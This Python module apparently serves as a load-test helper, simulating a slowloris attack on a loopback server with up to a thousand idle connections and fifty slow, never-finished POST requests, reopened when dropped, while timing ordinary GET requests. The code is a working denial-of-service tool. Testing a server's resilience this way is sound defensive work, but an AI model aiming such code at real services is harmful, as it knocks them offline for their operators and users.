"""Slow and idle clients on loopback, as a slowloris attack or a crowd of stalled
phones would hold them: connections that send nothing, and connections that send
one header line every few seconds and never finish. Each is reopened when the
server closes it, so the pressure lasts as long as the attack."""
from __future__ import annotations

import socket
import threading
import time
from contextlib import contextmanager


class Attack:
    def __init__(self, host: str, port: int, idle: int, slow: int, interval_s: float = 2.0):
        self.address = (host, port)
        self.idle, self.slow, self.interval_s = idle, slow, interval_s
        self.stop = threading.Event()
        self.started = time.monotonic()
        self.opened = 0  # connections opened in all, reopened ones included
        self.refused = 0  # connections the server did not accept

    def _open(self, greeting: bytes) -> socket.socket | None:
        try:
            sock = socket.create_connection(self.address, timeout=2)
            if greeting:
                sock.sendall(greeting)
            self.opened += 1
            return sock
        except OSError:
            self.refused += 1
            return None

    def run(self) -> None:
        idle = [self._open(b"") for _ in range(self.idle)]
        slow = [self._open(b"POST /api/v1/predict HTTP/1.1\r\nHost: x\r\n") for _ in range(self.slow)]
        line = 0
        while not self.stop.wait(self.interval_s):
            line += 1
            for i, sock in enumerate(slow):
                try:
                    if sock is None:
                        raise OSError
                    sock.sendall(f"X-Line-{line}: {'a' * 20}\r\n".encode())
                except OSError:
                    if sock is not None:
                        sock.close()
                    slow[i] = self._open(b"POST /api/v1/predict HTTP/1.1\r\nHost: x\r\n")
            for i, sock in enumerate(idle):
                if sock is None or _closed(sock):
                    if sock is not None:
                        sock.close()
                    idle[i] = self._open(b"")
        for sock in idle + slow:
            if sock is not None:
                sock.close()


def _closed(sock: socket.socket) -> bool:
    """The server closed it (a read would return nothing at once)."""
    sock.setblocking(False)
    try:
        return sock.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        sock.setblocking(True)


@contextmanager
def attack(base: str, idle: int = 1000, slow: int = 50, interval_s: float = 2.0):
    """Yields the running ``Attack`` against ``base`` (http://host:port); ends it on exit."""
    host, port = base.removeprefix("http://").split(":")
    running = Attack(host, int(port), idle, slow, interval_s)
    thread = threading.Thread(target=running.run, daemon=True)
    thread.start()
    try:
        time.sleep(1)  # every connection open before the caller measures
        yield running
    finally:
        running.stop.set()
        thread.join(timeout=30)


def latencies(url: str, count: int, timeout: float = 5.0) -> list[float]:
    """Seconds each of ``count`` GETs took, each on a new connection; ``timeout`` for a failure."""
    import urllib.request

    times = []
    for _ in range(count):
        started = time.perf_counter()
        try:
            with urllib.request.urlopen(url, timeout=timeout) as response:
                response.read()
                ok = response.status == 200
        except OSError:
            ok = False
        times.append(time.perf_counter() - started if ok else timeout)
    return times
